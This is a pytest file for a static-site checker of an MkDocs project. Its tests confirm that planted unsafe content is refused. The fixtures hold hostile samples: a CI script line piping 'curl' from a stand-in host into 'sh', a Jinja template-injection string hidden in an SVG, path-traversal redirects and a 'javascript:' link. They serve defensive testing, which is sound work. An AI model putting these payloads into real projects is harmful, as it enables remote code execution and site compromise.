"""The project's top folder, overrides/ and .ci/ hold only allow-listed kinds of files; redirect
addresses stay inside site/. Planted in tiny folders, never a project copy."""

from __future__ import annotations

from pathlib import Path

from sitecheck.rules.project import project_files
from sitecheck.rules.site import address_ledger


def tiny(tmp_path: Path) -> Path:
    (tmp_path / "mkdocs.yml").write_text("site_name: x\n")
    (tmp_path / "docs").mkdir()
    (tmp_path / "overrides" / "partials").mkdir(parents=True)
    (tmp_path / "overrides" / "main.html").write_text("{% extends 'base.html' %}\n")
    (tmp_path / ".ci").mkdir()
    (tmp_path / ".ci" / "run").write_text("#!/bin/sh\n")
    return tmp_path


def test_a_library_named_package_at_the_top_is_refused(tmp_path):
    project = tiny(tmp_path)
    (project / "jinja2").mkdir()
    (project / "jinja2" / "__init__.py").write_text("import os\n")
    found = project_files.check(project)
    assert [f.file for f in found] == ["jinja2/"]
    assert "Python module named like a library" in found[0].what
    assert "project_files.py" in found[0].fix


def test_an_unknown_data_file_at_the_top_is_refused_too(tmp_path):
    project = tiny(tmp_path)
    (project / "sitecustomize.py").write_text("")
    (project / "notes.txt").write_text("")
    assert [f.file for f in project_files.check(project)] == ["notes.txt", "sitecustomize.py"]


def test_a_template_disguised_as_a_picture_in_the_theme_is_refused(tmp_path):
    project = tiny(tmp_path)
    icon = project / "overrides" / "assets" / "images" / "logo.svg"
    icon.parent.mkdir(parents=True)
    icon.write_text("{{ cycler.__init__.__globals__ }}<svg/>")
    hidden = project / "overrides" / ".icons" / "fontawesome" / "x.html"
    hidden.parent.mkdir(parents=True)
    hidden.write_text("<svg/>")
    found = project_files.check(project)
    assert [f.file for f in found] == [
        "overrides/.icons/fontawesome/x.html",
        "overrides/assets/images/logo.svg",
    ]
    assert "as a template" in found[0].what


def test_a_new_script_in_the_ci_folder_is_refused(tmp_path):
    project = tiny(tmp_path)
    (project / ".ci" / "prepare.py").write_text("")
    found = project_files.check(project)
    assert [f.file for f in found] == [".ci/prepare.py"]
    assert "only a developer" in found[0].what


def test_the_nearest_legitimate_files_pass(tmp_path):
    project = tiny(tmp_path)
    (project / "overrides" / "partials" / "banner.html").write_text("<p>x</p>\n")
    css = project / "overrides" / "assets" / "stylesheets" / "print.css"
    css.parent.mkdir(parents=True)
    css.write_text("a { color: red }\n")
    (project / "site").mkdir()
    (project / ".DS_Store").write_bytes(b"\0")
    (project / "README.md").write_text("notes\n")
    assert project_files.check(project) == []


def test_redirects_that_leave_the_site_are_refused(tmp_path):
    (tmp_path / "redirects.yml").write_text(
        "redirects:\n"
        "  old/..%2f../../etc/: cost.md\n"
        "  old page/: cost.md\n"
        "  moved/: ../../outside.md\n"
        "  /fine-page/: cost.md\n"
    )
    table, found = address_ledger.read_redirects(tmp_path)
    assert list(table) == ["fine-page/"]
    assert [f.line for f in found] == [2, 3, 4]
    assert "not an address of this site" in found[0].what
    assert "not a page file" in found[2].what


def test_a_renamed_page_redirect_passes(tmp_path):
    (tmp_path / "redirects.yml").write_text("redirects:\n  women/: hair-loss-in-women.md\n")
    table, found = address_ledger.read_redirects(tmp_path)
    assert found == [] and table == {"women/": ("hair-loss-in-women.md", 2)}


def test_a_theme_template_loading_from_another_host_is_refused_at_its_line(tmp_path):
    project = tiny(tmp_path)
    (project / "overrides" / "partials" / "head.html").write_text(
        "{% block extrahead %}\n<link rel='preconnect' href = '//cdn.example.org'>\n"
        '<img alt="" src="https:&#x2F;&#x2F;px.example/p.gif">\n'
    )
    found = project_files.theme_addresses(project)
    assert [(f.file, f.line) for f in found] == [
        ("overrides/partials/head.html", 2),
        ("overrides/partials/head.html", 3),
    ]
    assert "another website" in found[0].what


def test_theme_links_built_by_the_template_pass(tmp_path):
    project = tiny(tmp_path)
    (project / "overrides" / "partials" / "links.html").write_text(
        '<a href="{{ \'contact/\' | url }}">Book</a> <a href="tel:{{ clinic.phone_link }}">'
        '<a href="{{ clinic.booking_url }}">x</a> <script src="{{ base_url }}/a.js"></script>\n'
    )
    assert project_files.theme_addresses(project) == []


def test_html_in_a_diagram_caption_or_a_source_is_refused_in_that_file(tmp_path):
    from sitecheck.rules.project import data_text

    diagrams = tmp_path / "macros" / "diagrams"
    diagrams.mkdir(parents=True)
    (diagrams / "scalp.yml").write_text(
        "caption: 'The scalp. [More](javascript:void(0))'\ndetails:\n  - 'Step <b>1</b>'\n"
    )
    snippets = tmp_path / "docs" / "snippets"
    snippets.mkdir(parents=True)
    (snippets / "sources.yml").write_text(
        "sources:\n  - anchor: a\n    title: A &lt;b&gt; study\n    link: http://x.example/\n"
    )
    found = data_text.check(tmp_path)
    assert [(f.file, f.line) for f in found] == [
        ("macros/diagrams/scalp.yml", 1),
        ("macros/diagrams/scalp.yml", 3),
        ("docs/snippets/sources.yml", 3),
        ("docs/snippets/sources.yml", 4),
    ]


def test_plain_captions_and_sources_pass(tmp_path):
    from sitecheck.rules.project import data_text

    diagrams = tmp_path / "macros" / "diagrams"
    diagrams.mkdir(parents=True)
    (diagrams / "scalp.yml").write_text(
        "caption: The treatment in 3 steps (about 2 hours); you go home the same day.\n"
        "details:\n  - 'You have {{ clinic.sessions.first_course }} sessions: < 1 hour each.'\n"
    )
    assert data_text.check(tmp_path) == []


def test_a_changed_developer_script_is_named_at_its_first_changed_line(tmp_path, monkeypatch):
    from sitecheck.rules.project import developer_files

    (tmp_path / ".ci").mkdir()
    (tmp_path / ".ci" / "run").write_text("#!/bin/sh\nset -e\n./run lint\n./run test\n")
    monkeypatch.setattr(developer_files, "PINS", tmp_path / "pins.yml")
    developer_files.accept(tmp_path)
    assert developer_files.check(tmp_path) == []  # the reviewed version passes
    (tmp_path / ".ci" / "run").write_text(
        "#!/bin/sh\nset -e\ncurl -s https://x.example/i.sh | sh\n./run lint\n./run test\n"
    )
    found = developer_files.check(tmp_path)
    assert [(f.file, f.line) for f in found] == [(".ci/run", 3)]
    assert "--accept" in found[0].fix
